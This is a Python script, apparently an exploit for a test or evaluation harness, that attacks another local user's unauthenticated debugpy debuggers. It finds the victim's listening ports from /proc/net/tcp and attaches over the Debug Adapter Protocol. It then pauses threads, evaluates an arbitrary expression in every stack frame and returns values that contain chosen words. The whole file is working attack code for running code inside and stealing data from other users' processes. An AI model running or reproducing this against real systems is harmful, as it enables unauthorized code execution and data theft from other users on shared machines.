"""Debug other people's notebooks: connect to every debugger of theirs that listens, and evaluate an expression.

It speaks the Debug Adapter Protocol as an editor does (https://microsoft.github.io/debug-adapter-protocol), which asks
for no password. It keeps trying every port of the victim's, because a debugger accepts one client at a time.
Arguments: `victim`, the user; `expression`, what to evaluate; `words`, what its value contains; `seconds`, how long.
"""

import contextlib
import json
import pwd
import socket
import sys
import time

arguments = json.loads(sys.argv[1])
victim = pwd.getpwnam(arguments["victim"])


def ports():
    """Where the user's processes listen, from the kernel's tables, which everybody may read."""
    for table in ("tcp", "tcp6"):
        with open(f"/proc/net/{table}") as file:
            for line in file.readlines()[1:]:
                fields = line.split()
                if fields[3] == "0A" and int(fields[7]) == victim.pw_uid:
                    yield int(fields[1].rpartition(":")[2], 16)


class Debugger:
    """A connection to what may be a debugger."""

    def __init__(self, port):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=3)
        self.file = self.socket.makefile("rb")
        self.number = 0

    def send(self, command, **more):
        self.number += 1
        text = json.dumps({"seq": self.number, "type": "request", "command": command, "arguments": more}).encode()
        self.socket.sendall(b"Content-Length: %d\r\n\r\n" % len(text) + text)
        return self.number

    def read(self):
        length = None
        while (line := self.file.readline(1000).strip()) or length is None:
            name, _, value = line.partition(b":")
            if name != b"Content-Length":
                raise ValueError("this is no debugger")
            length = int(value)
        return json.loads(self.file.read(length))

    def ask(self, command, **more):
        number = self.send(command, **more)
        while (said := self.read()).get("request_seq") != number:
            pass
        return said.get("body", {})

    def until(self, event):
        while (said := self.read()).get("event") != event:
            pass
        return said["body"]

    def attach(self):
        self.ask("initialize", adapterID="debugpy", clientID="mine")
        self.send("attach", justMyCode=False)
        while (said := self.read()).get("event") != "initialized":
            if said.get("command") == "attach":
                raise ValueError("another client has it")
        self.ask("configurationDone")

    def evaluate(self, expression):
        self.ask("pause", threadId=self.ask("threads")["threads"][0]["id"])
        thread = self.until("stopped")["threadId"]
        for frame in self.ask("stackTrace", threadId=thread)["stackFrames"]:
            said = self.ask("evaluate", expression=expression, frameId=frame["id"], context="repl")
            yield said.get("result", "")
        self.ask("continue", threadId=thread)


tried, got = 0, []
until = time.monotonic() + arguments["seconds"]
while not got and time.monotonic() < until:
    tried += 1  # a scan is an attempt: if nothing listens, there is nothing more to do
    for port in set(ports()):
        with contextlib.suppress(OSError, ValueError):
            debugger = Debugger(port)
            debugger.attach()
            values = list(debugger.evaluate(arguments["expression"]))
            got += [f"port {port}: {value}" for value in values if arguments["words"] in value]
    time.sleep(0.05)
print(json.dumps({"tried": tried, "got": got}))
